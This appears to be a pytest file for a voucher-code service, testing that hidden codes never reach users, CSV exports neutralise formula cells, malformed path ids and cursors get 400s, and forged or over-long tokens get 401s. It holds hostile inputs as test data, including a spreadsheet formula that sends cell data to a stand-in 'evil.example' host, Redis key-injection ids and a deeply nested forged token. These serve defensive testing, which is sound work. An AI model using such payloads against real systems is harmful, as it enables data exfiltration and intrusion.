"""Issue 16, leaks and bad input: hide_code codes never reach a user, a user's events come
from their own index, CSV cells are never formulas, odd ids and cursors are 400s."""

from __future__ import annotations

import base64
import csv
import io
import time
from typing import Any, cast

import jwt
import pytest
from litestar import Litestar
from litestar.routes import HTTPRoute
from redis.asyncio import Redis

from codepool import keys
from codepool.store import trace
from tests.apphelpers import (
    ROOT,
    ROOT_KEY,
    Client,
    Tenant,
    app_client,
    make_pool,
    make_reward,
    make_tenant,
    user_token,
)

# -- hide_code ------------------------------------------------------------------------


async def _hidden_purchases(c: Client) -> tuple[Tenant, dict[str, Any], list[str]]:
    """User "ann" buys three codes of a hide_code reward; one is redeemed, one released."""
    t = await make_tenant(c)
    pool = await make_pool(c, t, ["SECRET-1", "SECRET-2", "SECRET-3", "SECRET-4"])
    reward = await make_reward(c, t, pool["id"], hide_code=True)
    url = f"/v1/projects/{t.id}/rewards/{reward['id']}/purchase"
    for _ in range(3):
        r = await c.post(url, headers=user_token(t, "ann"))
        assert r.status_code == 201 and r.json()["code"] is None, r.text
    told = (await c.get(f"/v1/projects/{t.id}/events?user_id=ann", headers=t.admin)).json()["data"]
    codes = [e["code"] for e in told]
    assert sorted(codes) == ["SECRET-1", "SECRET-2", "SECRET-3"]  # admins see them
    redeem = await c.post(
        f"/v1/projects/{t.id}/codes/redeem", json={"code": codes[0]}, headers=t.pos
    )
    release = await c.post(
        f"/v1/projects/{t.id}/codes/release", json={"code": codes[1]}, headers=t.admin
    )
    assert redeem.status_code == release.status_code == 200
    return t, reward, codes


async def _everything_ann_reads(c: Client, t: Tenant) -> str:
    """Every answer a user token can get about its own purchases, as one text."""
    ann = user_token(t, "ann")
    base = f"/v1/projects/{t.id}"
    answers = []
    for path in (
        "/events",
        "/events?user_id=ann",
        "/events?type=REDEEMED_VOUCHER",
        "/events?type=VOUCHER_USED",
        "/events?type=VOUCHER_RELEASED",
        "/users/ann/vouchers",
        "/rewards",
    ):
        r = await c.get(base + path, headers=ann)
        assert r.status_code == 200, (path, r.text)
        answers.append(r.text)
    return "\n".join(answers)


async def test_hide_code_never_reaches_the_user(redis: Redis) -> None:
    async with app_client(redis) as c:
        t, _, codes = await _hidden_purchases(c)
        seen = await _everything_ann_reads(c, t)
        events = (await c.get(f"/v1/projects/{t.id}/events", headers=user_token(t, "ann"))).json()
        # Her purchases, the redeem and the release, each without its code.
        assert [e["type"] for e in events["data"]] == [
            "REDEEMED_VOUCHER",
            "REDEEMED_VOUCHER",
            "REDEEMED_VOUCHER",
            "VOUCHER_USED",
            "VOUCHER_RELEASED",
        ]
        assert all("code" not in e for e in events["data"])
        for code in codes:
            assert code not in seen
        # Admins (and root) still see every code.
        for who in (t.admin, ROOT):
            admin_view = await c.get(f"/v1/projects/{t.id}/events?user_id=ann", headers=who)
            assert [e.get("code") for e in admin_view.json()["data"]] == [
                *codes,
                codes[0],
                codes[1],
            ]


async def test_hide_code_stays_hidden_once_its_reward_is_gone(redis: Redis) -> None:
    """A deleted reward can no longer tell whether it hid its codes: a user sees none."""
    async with app_client(redis) as c:
        t, reward, codes = await _hidden_purchases(c)
        r = await c.delete(f"/v1/projects/{t.id}/rewards/{reward['id']}", headers=t.admin)
        assert r.status_code == 204
        seen = await _everything_ann_reads(c, t)
        for code in codes:
            assert code not in seen


async def test_codes_of_visible_rewards_are_shown_to_their_user(redis: Redis) -> None:
    async with app_client(redis) as c:
        t = await make_tenant(c)
        pool = await make_pool(c, t, ["OPEN-1"])
        reward = await make_reward(c, t, pool["id"])
        ann = user_token(t, "ann")
        r = await c.post(f"/v1/projects/{t.id}/rewards/{reward['id']}/purchase", headers=ann)
        assert r.json()["code"] == "OPEN-1"
        events = (await c.get(f"/v1/projects/{t.id}/events", headers=ann)).json()["data"]
        assert [e["code"] for e in events] == ["OPEN-1"]


# -- the per-user event index ---------------------------------------------------------

Entries = list[tuple[bytes, dict[bytes, bytes]]]


async def _stream(redis: Redis, key: str) -> Entries:
    return cast(Entries, await redis.xrange(key))


async def _own(redis: Redis, user_key: str) -> list[tuple[bytes, bytes]]:
    """A user's event index: (event id, type) per event."""
    items = cast(list[bytes], await redis.lrange(user_key, 0, -1))
    return [trace.parse_user_event(item) for item in items]


def _refs(entries: Entries) -> list[tuple[bytes, bytes]]:
    return [(i, f[b"type"]) for i, f in entries]


async def test_each_user_event_is_in_the_users_own_index_under_the_same_id(
    redis: Redis,
) -> None:
    async with app_client(redis) as c:
        t = await make_tenant(c)
        pool = await make_pool(c, t, [f"C-{i}" for i in range(10)], low_stock_thresholds=[5])
        reward = await make_reward(c, t, pool["id"])
        url = f"/v1/projects/{t.id}/rewards/{reward['id']}/purchase"
        told = []
        for user in ("ann", "bob", "ann", "c:events", "bob", "ann"):
            told.append((await c.post(url, headers=user_token(t, user))).json()["code"])
        await c.post(f"/v1/projects/{t.id}/codes/redeem", json={"code": told[0]}, headers=t.pos)
        await c.post(f"/v1/projects/{t.id}/codes/release", json={"code": told[1]}, headers=t.admin)
        # An admin issue for a user writes no event (none before either).
        await c.post(
            f"/v1/projects/{t.id}/pools/{pool['id']}/issue",
            json={"count": 1, "user_id": "ann"},
            headers=t.admin,
        )
    project = await _stream(redis, keys.events(t.id))
    assert {f[b"type"] for _, f in project} >= {b"POOL_LOW", b"VOUCHER_USED", b"VOUCHER_RELEASED"}
    for user in ("ann", "bob", "c:events"):
        own = await _own(redis, keys.user_events(t.id, user))
        assert own == _refs([(i, f) for i, f in project if f.get(b"user_id") == user.encode()])
        assert own, user
    assert len(await _own(redis, keys.user_events(t.id, "ann"))) == 4


async def test_user_event_indexes_are_trimmed_to_their_cap(redis: Redis) -> None:
    async with app_client(redis, user_events_maxlen=10) as c:
        t = await make_tenant(c)
        pool = await make_pool(c, t, [f"C-{i}" for i in range(500)])
        await c.post(
            f"/v1/projects/{t.id}/rewards",
            json={"name": "r", "pool_id": pool["id"], "id": "r1"},
            headers=t.admin,
        )
        for _ in range(400):
            r = await c.post(
                f"/v1/projects/{t.id}/rewards/r1/purchase", json={"user_id": "fan"}, headers=ROOT
            )
            assert r.status_code == 201
    own = await _own(redis, keys.user_events(t.id, "fan"))
    project = await _stream(redis, keys.events(t.id))
    assert len(project) == 400 and own == _refs(project[-10:])  # the newest 10


@pytest.mark.real
async def test_a_users_events_read_does_bounded_work(
    real_redis: Redis, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Among many events of others, a user with none (and one with many) is answered
    from their own stream: Redis reads at most USER_EVENT_SCAN_LIMIT entries, whatever the
    project holds. (Before, a user's /events filtered the project stream: up to 100,000
    entries per call.)"""
    monkeypatch.setattr(trace, "USER_EVENT_SCAN_LIMIT", 300, raising=False)
    async with app_client(real_redis, user_events_maxlen=5000) as c:
        t = await make_tenant(c)
        pool = await make_pool(c, t, [f"C-{i}" for i in range(1000)])
        reward = await make_reward(c, t, pool["id"])
        url = f"/v1/projects/{t.id}/rewards/{reward['id']}/purchase"
        for _ in range(600):  # "busy" holds 600 events of their own
            r = await c.post(url, json={"user_id": "busy"}, headers=t.admin)
            assert r.status_code == 201
        # Events of other users the project stream holds (as a big project would).
        async with real_redis.pipeline(transaction=False) as pipe:
            for i in range(20_000):
                pipe.xadd(
                    keys.events(t.id), {"type": "REDEEMED_VOUCHER", "time": "1", "user_id": f"x{i}"}
                )
            await pipe.execute()
        entries_read: list[int] = []
        for name in ("xrange", "lrange"):
            read = getattr(real_redis, name)

            async def counting(*args: Any, read: Any = read, **kwargs: Any) -> Any:
                got = await read(*args, **kwargs)
                entries_read.append(len(cast(list[Any], got)))
                return got

            monkeypatch.setattr(real_redis, name, counting)
        asks = [
            ("quiet", "/events"),
            ("quiet", "/events?type=VOUCHER_USED&skip=500"),
            ("busy", "/events"),
            ("busy", "/events?type=VOUCHER_USED"),
            ("busy", "/events?skip=900&count=5"),
        ]
        for user, path in asks:
            entries_read.clear()
            await real_redis.config_resetstat()
            r = await c.get(f"/v1/projects/{t.id}{path}", headers=user_token(t, user))
            assert r.status_code == 200, r.text
            stats = await real_redis.info("commandstats")
            # The index (at most 300 items) and the page's events, by id.
            assert sum(entries_read) <= 300 + 20, (user, path, entries_read)
            xrange_calls = stats.get("cmdstat_xrange", {}).get("calls", 0)
            assert stats["cmdstat_lrange"]["calls"] == 1 and xrange_calls <= 20, (user, path)
        assert r.json()["matched_limited"] is True  # the bound was reached, and said so
        # An admin asking about one user reads the same index.
        entries_read.clear()
        r = await c.get(f"/v1/projects/{t.id}/events?user_id=quiet", headers=t.admin)
        assert r.json()["data"] == [] and sum(entries_read) == 0


@pytest.mark.parametrize("after", ["nan", "inf", "-inf", "1e30", "-1", "NaN", "1e400",
                                   "18446744073709551616-0", "1-18446744073709551616",
                                   "18446744073709551615-18446744073709551615",
                                   "1-1\n", "abc"])  # fmt: skip
async def test_after_out_of_range_is_a_400(redis: Redis, after: str) -> None:
    async with app_client(redis) as c:
        t = await make_tenant(c)
        r = await c.get(f"/v1/projects/{t.id}/events", params={"after": after}, headers=t.admin)
        assert r.status_code == 400, r.text
        assert r.json()["error"]["code"] == "invalid_request"


@pytest.mark.parametrize("after", ["0", "1.5", "1e12", "0-0", "18446744073709551615-5"])
async def test_after_in_range_is_taken(redis: Redis, after: str) -> None:
    async with app_client(redis) as c:
        t = await make_tenant(c)
        r = await c.get(f"/v1/projects/{t.id}/events", params={"after": after}, headers=t.admin)
        assert r.status_code == 200, r.text


# -- pool_exhausted -------------------------------------------------------------------


@pytest.mark.parametrize("fast", [True, False])
async def test_pool_exhausted_tells_the_codes_really_left(redis: Redis, fast: bool) -> None:
    async with app_client(redis, fast_routes=fast) as c:
        t = await make_tenant(c)
        pool = await make_pool(c, t, ["A", "B", "C"])
        r = await c.post(
            f"/v1/projects/{t.id}/pools/{pool['id']}/issue", json={"count": 5}, headers=t.admin
        )
        assert r.status_code == 409 and r.json()["error"]["code"] == "pool_exhausted"
        assert r.json()["error"]["details"]["available"] == 3
        reward = await make_reward(c, t, pool["id"])
        for _ in range(3):
            await c.post(
                f"/v1/projects/{t.id}/rewards/{reward['id']}/purchase", headers=user_token(t, "u")
            )
        r = await c.post(
            f"/v1/projects/{t.id}/rewards/{reward['id']}/purchase", headers=user_token(t, "u")
        )
        assert r.status_code == 409 and r.json()["error"]["details"]["available"] == 0


# -- CSV ------------------------------------------------------------------------------

FORMULAS = ["=1+2", "+1", "-1", "@SUM(1;2)", '=WEBSERVICE("http://evil.example/?"&A1)', "SAFE-1"]


async def test_csv_export_neutralises_formula_cells(redis: Redis) -> None:
    async with app_client(redis) as c:
        t = await make_tenant(c)
        pool = await make_pool(c, t)
        up = await c.post(
            f"/v1/projects/{t.id}/pools/{pool['id']}/codes",
            json={"codes": FORMULAS},
            headers=t.admin,
        )
        assert up.status_code == 200 and up.json()["added"] == len(FORMULAS)  # real codes
        for user in ('=HYPERLINK("http://x")', "@me", "plain"):
            r = await c.post(
                f"/v1/projects/{t.id}/pools/{pool['id']}/issue",
                json={"count": 1, "user_id": user},
                headers=t.admin,
            )
            assert r.status_code == 200, r.text
        r = await c.get(f"/v1/projects/{t.id}/pools/{pool['id']}/codes.csv", headers=t.admin)
        assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.text)))
    assert rows[0][0] == "code"
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert sorted(row[0] for row in rows[1:]) == sorted(
        ["'" + f for f in FORMULAS[:-1]] + ["SAFE-1"]
    )
    assert {row[4] for row in rows[1:]} == {'\'=HYPERLINK("http://x")', "'@me", "plain", ""}


# -- path ids -------------------------------------------------------------------------

# Path parameter -> a value of the right kind that the app has (or might have).
GOOD = {
    "project_id": "acme",
    "pool_id": "P1",
    "reward_id": "R1",
    "key_id": "K1",
    "delivery_id": "1-0.0",
    "user_id": "ann",
}
# Each would name a key of another type (or another project) if it reached Redis.
BAD = ["P1:avail", "P1:log", "R1:users", "acme}:x", "a b", "x" * 65, "P1%3Aavail"]


def _routes(app: Litestar) -> list[tuple[str, str, list[str]]]:
    out: list[tuple[str, str, list[str]]] = []
    for route in app.routes:
        if not isinstance(route, HTTPRoute) or not route.path.startswith("/v1/"):
            continue
        params = list(route.path_parameters)
        if not params:
            continue
        for method in sorted(route.methods - {"OPTIONS", "HEAD"}):
            out.append((method, route.path, params))
    return out


def _fill(path: str, values: dict[str, str]) -> str:
    for name, value in values.items():
        path = path.replace("{" + name + ":str}", value).replace("{" + name + "}", value)
    return path


@pytest.mark.parametrize("fast", [True, False])
async def test_every_path_id_has_its_pattern(redis: Redis, fast: bool) -> None:
    """Every route, every path parameter, ids that would reach a key of another type:
    a 400 in the one error shape, never a 500 (and the pool list keys are untouched)."""
    async with app_client(redis, fast_routes=fast) as c:
        t = await make_tenant(c)
        pool = await make_pool(c, t, ["A", "B"])
        await c.post(
            f"/v1/projects/{t.id}/rewards",
            json={"name": "r", "pool_id": pool["id"], "id": "R1"},
            headers=t.admin,
        )
        GOOD["pool_id"] = pool["id"]
        routes = _routes(c.app)
        assert len(routes) > 15
        tried = 0
        for method, path, params in routes:
            for param in params:
                if param == "user_id":
                    continue  # user ids are broader: below
                for bad in BAD:
                    bad = bad.replace("P1", pool["id"])  # noqa: PLW2901
                    url = _fill(path, {**GOOD, param: bad})
                    r = await c.request(method, url, headers=ROOT, json={})
                    tried += 1
                    assert r.status_code == 400, (method, url, r.status_code, r.text)
                    assert set(r.json()) == {"error"} and r.json()["error"]["code"], r.text
        assert tried > 100
        assert await redis.llen(keys.pool_available(t.id, pool["id"])) == 2


async def test_user_ids_in_paths_never_reach_another_users_keys(redis: Redis) -> None:
    """User ids may hold ':' (a JWT sub is the customer's); every user key ends in its own
    suffix, so no user id names a key of another type."""
    async with app_client(redis) as c:
        t = await make_tenant(c)
        pool = await make_pool(c, t, ["A", "B", "C"])
        reward = await make_reward(c, t, pool["id"])
        for user in ("ann", "ann:codes", "ann:events"):
            r = await c.post(
                f"/v1/projects/{t.id}/rewards/{reward['id']}/purchase", headers=user_token(t, user)
            )
            assert r.status_code == 201
        for user in ("ann", "ann:codes", "ann:events", "ann:codes:events", "x}y{z"):
            for path in (f"/users/{user}/vouchers", f"/events?user_id={user}"):
                r = await c.get(f"/v1/projects/{t.id}{path}", headers=t.admin)
                assert r.status_code == 200, (path, r.text)
                assert r.json()["matched"] == (1 if user.count(":") < 2 and "}" not in user else 0)
        r = await c.get(f"/v1/projects/{t.id}/events", params={"user_id": "a\x01"}, headers=t.admin)
        assert r.status_code == 400


async def test_path_patterns_are_in_the_openapi_document(redis: Redis) -> None:
    async with app_client(redis) as c:
        schema = (await c.get("/schema/openapi.json")).json()
    seen = 0
    for path, item in schema["paths"].items():
        for operation in item.values():
            for param in operation.get("parameters", []):
                if param["in"] == "path":
                    assert param["schema"].get("pattern"), (path, param)
                    seen += 1
    assert seen > 30


# -- a forged token nested 1000 deep: 401, never a 500 ----------------------------------


@pytest.mark.parametrize("fast", [True, False])
async def test_a_deeply_nested_token_is_a_401(redis: Redis, fast: bool) -> None:
    deep = '{"alg":"HS256","a":' + '{"a":' * 999 + "1" + "}" * 1000
    part = base64.urlsafe_b64encode(deep.encode()).rstrip(b"=").decode()
    bearer = {"Authorization": f"Bearer {part}.{part}.{part}"}
    async with app_client(redis, fast_routes=fast) as c:
        t = await make_tenant(c)
        pool = await make_pool(c, t, ["N-1"])
        reward = await make_reward(c, t, pool["id"])
        for method, path in (
            ("GET", f"/v1/projects/{t.id}/rewards"),
            ("POST", f"/v1/projects/{t.id}/rewards/{reward['id']}/purchase"),
            ("GET", f"/v1/projects/{t.id}/events"),
        ):
            r = await c.request(method, path, headers=bearer)
            assert r.status_code == 401, (path, r.text)
            assert r.json()["error"]["code"] == "unauthorized"


async def test_a_mistyped_root_key_is_an_invalid_token(redis: Redis) -> None:
    async with app_client(redis) as c:
        r = await c.get("/v1/projects", headers={"Authorization": f"Bearer {ROOT_KEY}x"})
        assert r.status_code == 401
        assert r.json()["error"] == {
            "code": "unauthorized",
            "message": "invalid token",
            "details": {},
        }


# -- user tokens must expire, and not too late ------------------------------------------


@pytest.mark.parametrize("fast", [True, False])
async def test_user_tokens_must_expire_within_the_cap(redis: Redis, fast: bool) -> None:
    now = int(time.time())
    async with app_client(redis, fast_routes=fast, user_token_max_ttl=3600) as c:
        t = await make_tenant(c)
        pool = await make_pool(c, t, [f"T-{i}" for i in range(5)])
        reward = await make_reward(c, t, pool["id"])
        secret = t.project["user_token_secret"]
        buy = f"/v1/projects/{t.id}/rewards/{reward['id']}/purchase"

        def bearer(claims: dict[str, Any]) -> dict[str, str]:
            return {"Authorization": "Bearer " + jwt.encode(claims, secret, algorithm="HS256")}

        refused: dict[str, dict[str, Any]] = {
            "no exp": {"sub": "ann"},
            "exp past the cap": {"sub": "ann", "exp": now + 7200},
            "iat to exp past the cap": {"sub": "ann", "iat": now - 10, "exp": now + 3595},
        }
        for why, claims in refused.items():
            for method, path in (("POST", buy), ("GET", f"/v1/projects/{t.id}/rewards")):
                r = await c.request(method, path, headers=bearer(claims))
                assert r.status_code == 401, (why, path, r.text)
                assert "exp" in r.json()["error"]["message"], (why, r.text)
        taken = await c.post(buy, headers=bearer({"sub": "ann", "exp": now + 3500}))
        assert taken.status_code == 201, taken.text
        assert (await c.get(f"/v1/projects/{t.id}/pools/{pool['id']}", headers=t.admin)).json()[
            "assigned"
        ] == 1
